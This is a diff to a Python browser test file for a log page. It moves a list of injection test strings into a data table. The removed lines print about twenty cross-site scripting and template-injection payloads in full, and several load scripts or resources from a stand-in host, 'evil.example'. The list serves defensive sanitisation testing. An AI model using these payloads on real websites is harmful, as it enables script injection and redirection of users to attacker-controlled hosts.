@@ -14,6 +14,7 @@ from bench.living import SCOPE
 from browsing import Tab, browser, tab
 from page_served import EMPTY, Page, living, opened, own, page, served  # noqa: F401
 from soaked import soaked
+from tables import table
 
 from memtape.schemas.times import DAY_US
 from memtape.tools.capture.lines import Line
@@ -196,31 +197,7 @@ def test_the_log_is_live_and_stays_short(chromium: Any, own: Page) -> None:
         assert its.page.locator("#lines tbody tr").count() == 200 and its.heard == []
 
 
-HOST = "http://evil.example"
-INJECTED = [
-    "<script>alert(1)</script>",
-    "<img src=x onerror=alert(2)>",
-    f'"><script src="{HOST}/x.js"></script>',
-    "'><svg onload=alert(3)>",
-    f"<iframe src={HOST}></iframe><object data={HOST}></object><embed src={HOST}>",
-    '" autofocus onfocus="alert(4)" x="',
-    "</title><script>alert(5)</script>",
-    "</textarea></select></datalist></option><script>alert(6)</script>",
-    "</pre></details></table><script>alert(7)</script>",
-    f'<a href="javascript:alert(8)">here</a> [here](javascript:alert(9)) ![x]({HOST}/x.png)',
-    f'<meta http-equiv="refresh" content="0;url={HOST}">',
-    f'<link rel=stylesheet href={HOST}/x.css><style>@import "{HOST}/y.css";</style>',
-    f'<base href="{HOST}/"><form action="{HOST}"><button>Pin</button></form>',
-    "{{ 7 * 7 }}{% raw %}{{ asked }}{% endraw %}{# x #}${7*7}<%= 7 %>",
-    "&lt;script&gt;alert(10)&lt;/script&gt;&#x3c;b&#x3e;",
-    "<scr\x01ipt>alert(11)</scr\x01ipt>\u202e\u2066txt.exe\u2069<b\u200b>",
-    "]]><!--<script>alert(12)--></script><!--",
-    "<math><mtext></mtext><mglyph><svg><mtext><style><path id='</style><img onerror=alert(13) src>'>",
-    "<noscript><p title='</noscript><img src=x onerror=alert(14)>'></noscript>",
-    "+ADw-script+AD4-alert(15)+ADw-/script+AD4-",
-    "<input name=do value=forget><input name=meant value=yes>",
-    "data:text/html,<script>alert(16)</script>",
-]
+INJECTED = table("page-injections")["texts"]
 
 
 def decide_on(home: Path, kept: list[list[str]]) -> None:
